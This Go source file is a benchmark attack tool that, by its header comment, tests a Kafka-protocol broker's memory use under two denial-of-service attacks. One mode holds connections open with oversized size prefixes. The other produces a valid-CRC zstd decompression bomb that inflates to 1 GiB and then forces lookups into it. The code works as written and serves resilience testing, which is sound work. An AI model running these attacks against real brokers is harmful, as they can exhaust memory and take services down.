// Command attack runs two of issue 15's attacks against a broker, for
// bench/run-hostile to measure the server's memory under them:
//
//	attack -mode prefix -conns 12     12 connections that each send a 100 MiB size prefix and nothing else
//	attack -mode bomb -duration 10s   produce one zstd batch that inflates to 1 GiB, then 4 concurrent
//	                                  ListOffsets-by-timestamp loops for the duration
//
// It prints one JSON line: what the server answered.
package main

import (
	"bytes"
	"context"
	"encoding/binary"
	"encoding/json"
	"flag"
	"fmt"
	"hash/crc32"
	"net"
	"os"
	"sync"
	"sync/atomic"
	"time"

	"github.com/klauspost/compress/zstd"
	"github.com/twmb/franz-go/pkg/kgo"
	"github.com/twmb/franz-go/pkg/kmsg"
)

func main() {
	brokers := flag.String("brokers", "127.0.0.1:9092", "seed broker")
	mode := flag.String("mode", "prefix", "prefix or bomb")
	conns := flag.Int("conns", 12, "prefix: connections")
	dur := flag.Duration("duration", 10*time.Second, "how long to keep the attack up")
	flag.Parse()
	out := map[string]any{"mode": *mode}
	switch *mode {
	case "prefix":
		var held []net.Conn
		for i := 0; i < *conns; i++ {
			nc, err := net.Dial("tcp", *brokers)
			must(err)
			nc.Write(binary.BigEndian.AppendUint32(nil, 100<<20-1))
			held = append(held, nc)
		}
		time.Sleep(*dur)
		open := 0
		for _, nc := range held {
			nc.SetReadDeadline(time.Now().Add(10 * time.Millisecond))
			if _, err := nc.Read(make([]byte, 1)); err != nil {
				if ne, ok := err.(net.Error); ok && ne.Timeout() {
					open++
				}
			}
			nc.Close()
		}
		out["still_open"] = open
	case "bomb":
		cl, err := kgo.NewClient(kgo.SeedBrokers(*brokers), kgo.AllowAutoTopicCreation())
		must(err)
		defer cl.Close()
		ctx := context.Background()
		now := time.Now().UnixMilli()
		req := kmsg.NewPtrProduceRequest()
		req.Acks, req.TimeoutMillis = -1, 30000
		rt := kmsg.NewProduceRequestTopic()
		rt.Topic = "bomb"
		rp := kmsg.NewProduceRequestTopicPartition()
		rp.Records = bomb(now)
		rt.Partitions = append(rt.Partitions, rp)
		req.Topics = append(req.Topics, rt)
		// The topic first, so the produce is not lost to its creation.
		mreq := kmsg.NewPtrMetadataRequest()
		mt := kmsg.NewMetadataRequestTopic()
		mt.Topic = kmsg.StringPtr("bomb")
		mreq.Topics = append(mreq.Topics, mt)
		mreq.AllowAutoTopicCreation = true
		mresp, err := mreq.RequestWith(ctx, cl)
		must(err)
		rt.TopicID = mresp.Topics[0].TopicID // produce v13 names topics by id
		req.Topics[0] = rt
		presp, err := req.RequestWith(ctx, cl)
		must(err)
		code := presp.Topics[0].Partitions[0].ErrorCode
		out["produce_error_code"] = code
		var lookups, failed atomic.Int64
		var wg sync.WaitGroup
		deadline := time.Now().Add(*dur)
		for g := 0; g < 4; g++ {
			wg.Add(1)
			go func() {
				defer wg.Done()
				for time.Now().Before(deadline) {
					lreq := kmsg.NewPtrListOffsetsRequest()
					lt := kmsg.NewListOffsetsRequestTopic()
					lt.Topic = "bomb"
					lp := kmsg.NewListOffsetsRequestTopicPartition()
					lp.Timestamp = now + 1 // the second record: past the first, inside the bomb
					lt.Partitions = append(lt.Partitions, lp)
					lreq.Topics = append(lreq.Topics, lt)
					resp, err := lreq.RequestWith(ctx, cl)
					lookups.Add(1)
					if err != nil || resp.Topics[0].Partitions[0].ErrorCode != 0 {
						failed.Add(1)
					}
				}
			}()
		}
		wg.Wait()
		out["lookups"], out["lookups_failed"] = lookups.Load(), failed.Load()
	default:
		must(fmt.Errorf("unknown mode %q", *mode))
	}
	json.NewEncoder(os.Stdout).Encode(out)
}

// bomb is a valid-CRC zstd batch of two records whose second record is 1 GiB
// of zeros: a few tens of KiB on the wire.
func bomb(now int64) []byte {
	var z bytes.Buffer
	zw, _ := zstd.NewWriter(&z, zstd.WithEncoderLevel(zstd.SpeedFastest))
	first := []byte{0, 0, 0, 1, 2, 'a', 0} // attrs, ts delta 0, offset delta 0, key null, value "a", no headers
	zw.Write(append(binary.AppendVarint(nil, int64(len(first))), first...))
	const big = 1 << 30
	second := binary.AppendVarint([]byte{0, 2, 2, 1}, big) // ts delta 1, offset delta 1, key null, value length
	zw.Write(binary.AppendVarint(nil, int64(len(second)+big+1)))
	zw.Write(second)
	zeros := make([]byte, 1<<20)
	for i := 0; i < big>>20; i++ {
		zw.Write(zeros)
	}
	zw.Write([]byte{0})
	zw.Close()
	rb := kmsg.RecordBatch{PartitionLeaderEpoch: -1, Magic: 2, Attributes: 4, LastOffsetDelta: 1,
		FirstTimestamp: now, MaxTimestamp: now + 1, ProducerID: -1, ProducerEpoch: -1, FirstSequence: -1,
		NumRecords: 2, Records: z.Bytes()}
	raw := rb.AppendTo(nil)
	binary.BigEndian.PutUint32(raw[8:], uint32(len(raw)-12))
	binary.BigEndian.PutUint32(raw[17:], crc32.Checksum(raw[21:], crc32.MakeTable(crc32.Castagnoli)))
	return raw
}

func must(err error) {
	if err != nil {
		fmt.Fprintln(os.Stderr, "attack:", err)
		os.Exit(1)
	}
}
